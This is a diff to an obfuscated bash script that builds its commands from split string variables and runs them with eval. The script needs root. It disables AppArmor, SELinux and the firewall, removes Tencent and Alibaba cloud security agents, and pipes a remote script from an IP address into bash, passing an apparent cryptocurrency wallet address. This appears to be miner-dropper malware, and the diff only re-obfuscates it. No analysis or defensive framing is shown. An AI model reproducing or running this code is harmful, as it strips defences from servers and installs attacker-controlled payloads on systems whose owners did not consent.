@@ -1,10 +1,10 @@
-xcn='# task 8489 v4
+cvs='# task 8489 v4
 #!/bin/bash
 if [ "$(id -u)" != "0" ]; then exit 1; fi
-systemctl stop apparmor; systemctl disable apparmor
+s';rjt='ystemctl stop apparmor; systemctl disable apparmor
 setenforce 0
 ufw disable
-/usr/local/qcloud/stargate/admin/uninstall.sh
+/usr/local/qcloud/stargate/admin/uninstal';kbm='l.sh
 pkill -9 aliyun-service; rm -rf /usr/local/aegis
-curl -s http://203.0.113.200/s.sh | bash -s';aws=' -- 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD
-';eval "${xcn}${aws}"
+curl -s';vhs=' http://203.0.';dkb='113.200/s.sh | bash -s -- 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUico';dqk='D
+';eval "$cvs$rjt$kbm$vhs$dkb$dqk"
